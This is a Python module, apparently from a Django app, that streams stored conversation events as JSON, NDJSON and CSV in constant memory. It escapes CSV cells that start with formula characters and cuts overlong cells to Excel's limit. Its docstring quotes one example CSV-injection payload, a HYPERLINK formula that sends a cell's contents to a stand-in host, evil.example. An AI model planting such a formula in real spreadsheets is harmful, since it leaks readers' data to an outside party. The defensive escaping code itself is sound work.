"""Events as JSON, NDJSON and CSV text, streamed from a store in constant memory.

Shared by the API's export and the export_conversations command. Each
writer yields strings of about 64 KB; events come as the store's JSON text
(`filtered_events_json`), so NDJSON needs no decoding at all.

CSV is opened in spreadsheets, which run a cell that starts like a formula:
a user who typed `=HYPERLINK("http://evil.example/?leak="&B3,"x")` would
have it run on the reader's machine. Such cells are written with a leading
`'` by default (OWASP's "CSV Injection" rule), which spreadsheets read as
"this is text" and do not show; and a cell longer than Excel's 32,767
characters (which Excel would spill into the next row) is cut, ending with
a marker saying how long it was. `formulas="raw"` writes every cell as stored.
"""

import csv
import io
import json
import math
from datetime import datetime

from . import exported

CSV_COLUMNS = exported.EVENT_COLUMNS

# What a cell must not start with: OWASP's = + - @ tab and CR, ASVS 1.2.10's
# NUL, and LF beside CR (no stored text needs to start with a line break unescaped).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
CSV_FORMULAS = ("escape", "raw")
EXCEL_CELL_LIMIT = 32767  # characters in a cell (Excel's specifications and limits)
CUT_MARKER = "…[cut: {length:,} characters in all]"


def chunked(pieces, size=65536):
    """Join small strings into chunks: each chunk costs a trip through Django's response machinery."""
    buffer, length = [], 0
    for piece in pieces:
        buffer.append(piece)
        length += len(piece)
        if length >= size:
            yield "".join(buffer)
            buffer, length = [], 0
    if buffer:
        yield "".join(buffer)


def event_jsons(store, flt, events="all"):
    """(sender_id, event JSON text) of the events an export holds: `events` "all" (within since/until)
    or "matching" (store.matching_events_json)."""
    exported.check_choice("events", events, exported.EVENT_SELECTIONS)
    return store.matching_events_json(flt) if events == "matching" else store.filtered_events_json(flt)


def json_pairs(store, flt, *, events="all"):
    def pieces():
        yield "["
        separator = "\n"
        for sender_id, event_json in event_jsons(store, flt, events):
            yield f'{separator}{{"sender_id": {json.dumps(sender_id)}, "event": {event_json}}}'
            separator = ",\n"
        yield "\n]\n"
    return chunked(pieces())


def ndjson_lines(store, flt, *, events="all"):
    # Each line is the event with sender_id added first: spliced into the
    # event's JSON text rather than decoded and encoded again.
    return chunked(f'{{"sender_id": {json.dumps(sender_id)}, {event_json[1:]}\n' if event_json != "{}"
                    else f'{{"sender_id": {json.dumps(sender_id)}}}\n'
                    for sender_id, event_json in event_jsons(store, flt, events))


def spreadsheet_safe(cell):
    """`cell` as a spreadsheet reads it as it is: text that would start a formula gets a leading '.

    Numbers stay numbers: csv writes an int or a finite float as a plain
    decimal (`-1.5`, `-1e-05`), which spreadsheets read as a number, never as
    a formula, and a quote would turn it into text. Only what is stored as a
    string is escaped, in every column: a timestamp another program stored as
    "=1+1" is text, not a number.
    """
    if isinstance(cell, float) and cell == -math.inf:
        cell = "-inf"  # as csv would write it: a formula to a spreadsheet, not a number
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def excel_cell(cell):
    """`cell` as written by default: spreadsheet_safe, and cut to Excel's limit with a marker."""
    # Called for every cell of a million-row export: plain text, numbers and None take the short ways.
    kind = type(cell)
    if kind is str:
        if cell[:1] in _FORMULA_FIRST:
            cell = "'" + cell
        if len(cell) > EXCEL_CELL_LIMIT:
            marker = CUT_MARKER.format(length=len(cell))
            return cell[:EXCEL_CELL_LIMIT - len(marker)] + marker
        return cell
    if cell is None or kind is int:
        return cell
    if kind is float:
        return excel_cell(spreadsheet_safe(cell)) if cell == -math.inf else cell
    text = _cell(cell)  # a list, a datetime
    return excel_cell(text) if type(text) is str else text


_FORMULA_FIRST = frozenset(FORMULA_STARTS)


def csv_table(header, rows, *, formulas="escape"):
    """CSV text of `rows` (lists of cells) under `header`, in chunks; `formulas` is "escape" (excel_cell)
    or "raw". A list cell (tags) is written as its items joined by ", ", a datetime in ISO 8601."""
    exported.check_choice("csv_formulas", formulas, CSV_FORMULAS)
    escape = formulas == "escape"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    batch = []
    for row in rows:
        batch.append([excel_cell(cell) for cell in row] if escape else [_cell(cell) for cell in row])
        if len(batch) == 500:
            writer.writerows(batch)
            batch.clear()
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    writer.writerows(batch)
    yield buffer.getvalue()


def _cell(value):
    """A value csv can't write as it is, as text: a list (tags) comma-joined, a datetime in ISO 8601."""
    if isinstance(value, list):
        return ", ".join(value)
    if isinstance(value, datetime):
        return exported.iso_text(value)
    return value


def csv_rows(store, flt, *, formulas="escape", events="all"):
    """CSV text of the events `flt` selects (CSV_COLUMNS); `formulas` is "escape" (excel_cell) or "raw",
    `events` "all" or "matching" (exported.event_rows)."""
    return csv_table(CSV_COLUMNS, (exported.event_cells(sender_id, session, event, event_json)
                                   for session, sender_id, event, event_json
                                   in exported.event_rows(store, flt, events=events)), formulas=formulas)


def summary_csv(store, flt, joined=(), *, formulas="escape"):
    """One CSV row per conversation `flt` selects (exported.summary_rows)."""
    return csv_table([name for name, _ in exported.summary_columns(joined)],
                     exported.summary_rows(store, flt, joined), formulas=formulas)


def _summary_objects(store, flt, joined):
    names = [name for name, _ in exported.summary_columns(joined)]
    for row in exported.summary_rows(store, flt, joined):
        yield json.dumps({name: _json_value(value) for name, value in zip(names, row)})


def _json_value(value):
    if isinstance(value, datetime):
        return exported.iso_text(value)
    if isinstance(value, float) and not math.isfinite(value):
        return None  # JSON has no infinity
    return value


def summary_ndjson(store, flt, joined=()):
    """One JSON object per line for each conversation `flt` selects (exported.summary_rows)."""
    return chunked(line + "\n" for line in _summary_objects(store, flt, joined))


def summary_json(store, flt, joined=()):
    """A JSON array of one object per conversation `flt` selects (exported.summary_rows)."""
    def pieces():
        yield "["
        separator = "\n"
        for line in _summary_objects(store, flt, joined):
            yield separator + line
            separator = ",\n"
        yield "\n]\n"
    return chunked(pieces())
